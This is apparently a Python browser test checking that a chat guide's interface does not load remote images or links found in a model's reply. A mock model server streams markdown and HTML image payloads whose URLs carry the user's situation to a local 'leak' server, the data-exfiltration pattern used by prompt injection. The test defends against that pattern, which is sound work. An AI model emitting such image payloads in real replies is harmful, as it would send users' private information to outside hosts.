"""A model reply with a remote image, in a real browser: the browser fetches nothing, the words are shown.

The guide's model is an OpenAI-compatible server on loopback whose every reply carries an
image pointing at a second loopback server (with the person's situation in its query, as a
prompt injection would ask for), an `<img>` tag, a reference-style image and links. Every
request the browser makes is recorded, while the reply streams and after a reload (the
transcript rendered from the store); none may reach the second server.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from pattern_guide.assistant import Engine
from tests.conftest import free_port
from tests.llm.test_llm import chunk
from tests.ui.test_browser import (
    CONTENT,
    FIRST_LOAD_TIMEOUT,
    OUTPUT,
    REPLY_TIMEOUT,
    Page,
    Server,
    assistant_texts,
    browser_page,
    say,
    screenshot,
    server_env,
    wait_settled,
)

SITUATION = "Our weekly meetings decide nothing and the team is exhausted."


def reply_text(leak: str) -> str:
    return (
        "I hear a tension between talking and deciding. VISIBLE-MARKER "
        f"![chart]({leak}/leak?q=meetings-decide-nothing) "
        f'<img src="{leak}/leak-tag"> '
        f"![ref][pic] and [the study]({leak}/page) or {leak}/bare and "
        "[Meeting Diet](/library?pattern=meeting-diet).\n\n"
        f"[pic]: {leak}/leak-reference\n"
    )


class Recorder(ThreadingHTTPServer):
    """A loopback server that records every request: the leak target and the model server in one."""

    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.hits: list[str] = []
        self.completions = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Recorder

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass

    def do_GET(self) -> None:  # what a leaking browser would do
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.server.completions += 1
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        text = reply_text(self.server.url)
        self._event(chunk("", role=True))
        for start in range(0, len(text), 7):  # small pieces: every half-written image is streamed
            self._event(chunk(text[start : start + 7]))
            time.sleep(0.01)
        self._event(chunk(finish="stop"))
        self._send(b"data: [DONE]\n\n")
        self._send(b"")

    def _event(self, data: dict[str, Any]) -> None:
        self._send(f"data: {json.dumps(data)}\n\n".encode())

    def _send(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    srv = Recorder()
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.fixture
def modelled_server(hashing_starter: Engine, recorder: Recorder, tmp_path: Path) -> Iterator[Server]:
    OUTPUT.mkdir(parents=True, exist_ok=True)
    env = server_env(hashing_starter, tmp_path / "state") | {
        "PATTERN_GUIDE_EMBEDDER": "hashing",
        "OPENAI_BASE_URL": f"{recorder.url}/v1",
        "OPENAI_MODEL": "test-model",
        "OPENAI_TIMEOUT": "20",
    }
    running = Server(env, free_port(), "untrusted")
    running.start()
    try:
        yield running
    finally:
        running.stop()


def rendered(page: Page) -> dict[str, list[str]]:
    """Images and links inside the chat messages."""
    return dict(
        page.locator(CONTENT).evaluate_all(
            """els => ({
                img: els.flatMap(e => [...e.querySelectorAll('img, image, iframe, object, embed, video, audio')]
                    .map(x => x.outerHTML)),
                href: els.flatMap(e => [...e.querySelectorAll('a')].map(a => a.getAttribute('href'))),
            })"""
        )
    )


@pytest.mark.slow
def test_a_model_reply_with_a_remote_image_fetches_nothing(modelled_server: Server, recorder: Recorder) -> None:
    port = f":{recorder.server_address[1]}"
    with browser_page() as page:
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        page.set_default_timeout(REPLY_TIMEOUT)
        page.goto(modelled_server.url)
        wait_settled(page, 0, timeout=FIRST_LOAD_TIMEOUT)
        reply = say(page, SITUATION)
        assert recorder.completions >= 1, "the guide asked the model server"
        page.wait_for_timeout(500)
        assert [url for url in requests if port in url] == [], "the browser fetched from the leak server"
        assert "VISIBLE-MARKER" in reply
        assert "[image: chart]" in reply and "[image: ref]" in reply
        assert "the study (127.0.0.1)" in reply
        assert '<img src="' in reply  # the tag shown as text
        found = rendered(page)
        assert found["img"] == []
        assert [h for h in found["href"] if h and not h.startswith(("/", "?", "#"))] == []
        assert "/library?pattern=meeting-diet" in found["href"]  # a link into the app stays one
        screenshot(page, "untrusted-reply.png")

        transcript_now = len(assistant_texts(page))
        page.reload()  # the transcript again, rendered from the store
        wait_settled(page, transcript_now - 1, timeout=FIRST_LOAD_TIMEOUT)
        assert "VISIBLE-MARKER" in assistant_texts(page)[-1]
        assert rendered(page)["img"] == []
        page.wait_for_timeout(500)
    assert [url for url in requests if port in url] == []
    assert recorder.hits == []
